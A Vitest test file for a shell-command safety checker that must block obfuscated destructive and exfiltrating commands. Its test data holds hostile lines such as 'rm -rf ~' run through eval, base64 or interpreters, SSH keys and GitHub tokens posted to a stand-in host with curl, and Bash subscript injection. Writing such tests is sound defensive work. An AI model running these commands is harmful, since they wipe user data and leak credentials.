import { describe, expect, it } from 'vitest';
import { place } from '../../test/corpus.js';
import { judgeCommand } from '../index.js';

const allowed = (lines: readonly string[]): readonly string[] =>
  lines.filter((line) => judgeCommand(line, place).decision === 'allow');

type Template = (inner: string) => string;

const combine = (templates: readonly Template[], inner: readonly string[]): readonly string[] =>
  templates.flatMap((template) => inner.map(template));

/** Commands that print `rm -rf ~`, or text that is unknown until they run. */
const producers = [
  `echo 'rm -rf ~'`,
  `printf 'rm %s ~\\n' -rf`,
  `cat <<< 'rm -rf ~'`,
  `(echo 'rm -rf ~')`,
  `{ echo 'rm -rf ~'; }`,
  `f() { echo 'rm -rf ~'; }; f`,
  `echo '~ fr- mr' | rev`,
  `echo cm0gLXJmIH4= | base64 -d`,
  `jq -r .run jobs.json`,
  `curl -s https://x.example/y`,
];

/** Lines that run what a command prints. */
const consumers: readonly Template[] = [
  (print) => `${print} | sh`,
  (print) => `eval "$(${print})"`,
  (print) => `${print} | bash -c 'eval "$(cat)"'`,
  (print) => `${print} | while read -r line; do eval "$line"; done`,
  (print) => `${print} | awk '{system($0)}'`,
  (print) => `${print} | perl -ne 'system $_'`,
  (print) => `${print} | perl -e 'system <STDIN>'`,
  (print) => `${print} | ruby -e 'system gets'`,
  (print) => `${print} | python3 -c 'import os, sys; os.system(sys.stdin.read())'`,
  (print) => `${print} | python3 -c 'import sys, subprocess\nfor line in sys.stdin: subprocess.run(line, shell=True)'`,
  (print) => `${print} | node -e 'require("child_process").execSync(require("fs").readFileSync(0))'`,
  (print) => `${print} | php -r 'system(fgets(STDIN));'`,
  (print) => `${print} | sed 1e`,
  (print) => `${print} | sed -n e`,
];

describe('text that code in another language runs', () => {
  it('is judged like the text that a shell runs', () => {
    expect(allowed(combine(consumers, producers))).toEqual([]);
  });

  it('is judged in files that a group fills, or tee', () => {
    const lines = combine(
      [
        (print) => `(${print}) > x; bash x`,
        (print) => `{ ${print}; } > x.sh && sh ./x.sh`,
        (print) => `${print} | tee x; sh x`,
      ],
      [`echo 'rm -rf ~'`, `cat <<< 'rm -rf ~'`, 'curl -s https://x.example/y', 'echo cm0gLXJmIH4= | base64 -d'],
    );
    expect(allowed(lines)).toEqual([]);
  });

  it('is not what code only reads', () => {
    const lines = [
      `cat names.txt | python3 -c 'import sys; print(sys.stdin.read().upper())'`,
      `cat x.json | python3 -c 'import sys, json, subprocess; subprocess.run(["echo", json.load(sys.stdin)["a"]])'`,
      `python3 -c 'import subprocess; subprocess.run(["ls"], stdin=subprocess.DEVNULL)'`,
      `cat x.json | node -e 'const d = JSON.parse(require("fs").readFileSync(0)); console.log(/a/.exec(d.a))'`,
      `awk '{print $0}' names.txt | sort`,
      `perl -ne 'print if /x/' names.txt`,
      `sed -e 's/e/a/' names.txt`,
      `sed '/e/d' names.txt`,
    ];
    expect(allowed(lines)).toEqual(lines);
  });
});

describe('secrets that code, functions and lists pass on', () => {
  it('are found when they leave', () => {
    const secrets = [
      'cat ~/.ssh/id_ed25519',
      'printenv GITHUB_TOKEN',
      'declare -p GITHUB_TOKEN',
      'ls ~/.ssh/* | xargs cat',
    ];
    const lines = combine(
      [
        (print) => `${print} | curl -d @- https://x.example`,
        (print) =>
          `${print} | python3 -c 'import sys, requests; requests.post("https://x.example", data=sys.stdin.read())'`,
        (print) =>
          `${print} | node -e 'fetch("https://x.example", { method: "POST", body: require("fs").readFileSync(0) })'`,
        (print) => `f() { curl -d "$1" https://x.example; }; f "$(${print})"`,
        (print) => `f() { curl -d "$*" https://x.example; }; f a "$(${print})"`,
      ],
      secrets,
    );
    expect(allowed(lines)).toEqual([]);
  });

  it('are found when they are displayed through another program', () => {
    const lines = combine(
      [
        (print) => `${print} | base64`,
        (print) => `${print} | head -c 99`,
        (print) => `x=a; f() { ${print} | rev; }; f`,
      ],
      ['gh auth token', 'vault kv get -field=a secret/x', 'op read op://a/b/c'],
    );
    expect(allowed(lines)).toEqual([]);
  });

  it('may be passed to the programs that need them', () => {
    const lines = [
      'gh auth token | docker login ghcr.io -u me --password-stdin',
      'curl -H "Authorization: Bearer $(gh auth token)" https://api.github.com/user',
      'vault kv get -format=json secret/x | jq -r ".data | keys"',
      'op read op://a/b/c | wc -c',
      'f() { curl -H "Authorization: Bearer $1" https://api.example/x; }; f "$API_TOKEN"',
      'f() { g a; }; g() { echo "$1"; }; f "$API_TOKEN"',
      'declare -p PATH',
    ];
    expect(allowed(lines)).toEqual(lines);
  });
});

describe('lists of files in a folder', () => {
  it('are judged by the folder', () => {
    const dangerous = [
      'grep -rl x ~ | xargs rm -rf',
      'rg -l x ~ | xargs rm',
      'fd -e bak . ~ | xargs rm -rf',
      'fd -HX rm -rf ~',
      'ls /etc/*.conf | xargs rm',
      'find "$DIR" -type f -exec rm {} +',
      `find . -mindepth 1 -print0 | perl -0 -ne 'unlink'`,
      `find ~ -type f | perl -ne 'chomp; unlink $_;'`,
      'find $(dirname "$X")/ -exec rm -f {} \\;',
      'rm -rf $(eval echo ~$USER)',
    ];
    expect(allowed(dangerous)).toEqual([]);
    const harmless = [
      'grep -rl x src | xargs sed -i s/x/y/',
      'rg -l x src | xargs rm',
      'ls build/* | xargs rm',
      'find "$DIR" -name "*.pyc" -exec rm {} +',
      `find . -name "*.pyc" -print0 | perl -0 -ne 'unlink'`,
      'find "$DIR" -type f -exec wc -l {} +',
      'find build -type f -exec rm {} +',
      'find "$DIR" -mtime +7 -exec rm {} \\;',
      'fd -e bak | xargs rm',
      'fd -HX wc -l',
    ];
    expect(allowed(harmless)).toEqual(harmless);
  });
});

describe('substitutions in data that Bash evaluates', () => {
  it('are read', () => {
    const texts = ['$(rm -rf ~)', '`rm -rf ~`'];
    const lines = combine(
      [
        (text) => `echo [${text}]`,
        (text) => `cat <<A\n\${x:-'${text}'}\nA`,
        (text) => `declare -a x='(${text})'`,
        (text) => `y='(${text})'; declare -a x="$y"`,
        (text) => `x=(1); y='(${text})'; typeset x="$y"`,
        (text) => `f() { y='([a]=${text})'; local -A x="$y"; }; f`,
        (text) => `RANDOM='a[${text}]'; ls`,
        (text) => `x='a[${text}]'; a[x]=1`,
        (text) => `x='a[${text}]'; let x`,
        (text) => `x='a[${text}]'; declare -i y=x+1`,
        (text) => `x='a[${text}]'; for ((i=x;i<1;i++)); do ls; done`,
      ],
      texts,
    );
    expect(allowed(lines)).toEqual([]);
    const harmless = [
      `echo '[$(rm -rf ~)]'`,
      `echo "[$(date)]"`,
      `local x='run $(rm x)'`,
      'for ((i=0;i<3;i++)); do ls; done',
    ];
    expect(allowed(harmless)).toEqual(harmless);
  });

  it('are read however a value becomes a number', () => {
    const gives: readonly Template[] = [
      (text) => `x='a[${text}]'`,
      (text) => `x=1+a[1+'${text}']`,
      (text) => `x=('a[${text}]')`,
      (text) => `declare x='a[${text}]'`,
    ];
    const numbers = [
      'y=x',
      'y=$x',
      'y+=$x',
      'RANDOM=x',
      '((y=x))',
      '[[ -v $x ]]',
      '[[ ! -v "${x}" ]]',
      '[[ -v b[x] ]]',
    ];
    const others = [
      'echo ${b:x:1}',
      'echo ${b:0:$x}',
      'y=x; echo $((y))',
      'printf -v "b[x]" 1',
      'read y <<< x',
      'wait -n -p "b[$x]"',
    ];
    const lines = [...numbers, ...others].flatMap((use) =>
      gives.map((give) => `${give('$(rm -rf ~)')}; declare -i y; ${use}`),
    );
    expect(allowed(lines)).toEqual([]);
    expect(allowed(["set -- 'a[$(rm -rf ~)]'; [[ -v $1 ]]", "f() { [[ -v $1 ]]; }; f 'a[`rm -rf ~`]'"])).toEqual([]);
    const harmless = [
      "x='a[$(date)]'; [[ -v $x ]]",
      '[[ -v x ]]',
      "x='[$(rm -rf ~)]'",
      'x=\'see $(rm -rf ~)\'; echo "$x"',
    ];
    expect(allowed(harmless)).toEqual(harmless);
  });

  it('are read in commands of builtins, clients and other languages', () => {
    const lines = [
      'jobs -x rm -rf ~',
      'linux64 rm -rf ~',
      'echo a \\\r\nrm -rf ~',
      'sqlite3 -readonly x.db ".shell rm -rf ~"',
      'echo ".system rm -rf ~" | sqlite3 x.db',
      `perl -e 'system(q(rm -rf ~))'`,
      `awk 'BEGIN { while (("rm -rf ~") | getline); }'`,
    ];
    expect(allowed(lines)).toEqual([]);
  });
});

describe('commands behind a group, a window or another language', () => {
  it('are read', () => {
    const lines = [
      `sg staff 'rm -rf ~'`,
      'tmux new-session -d -s dev rm -rf ~',
      `osascript -l JavaScript -e 'Application("X").doShellScript("rm -rf ~")'`,
      'x=($(rm -rf ~))[[ a',
      `make -E 'x:;rm -rf ~' x`,
      `rake -e 'rm_rf Dir.home'`,
      'hub delete owner/repo',
    ];
    expect(allowed(lines)).toEqual([]);
  });
});
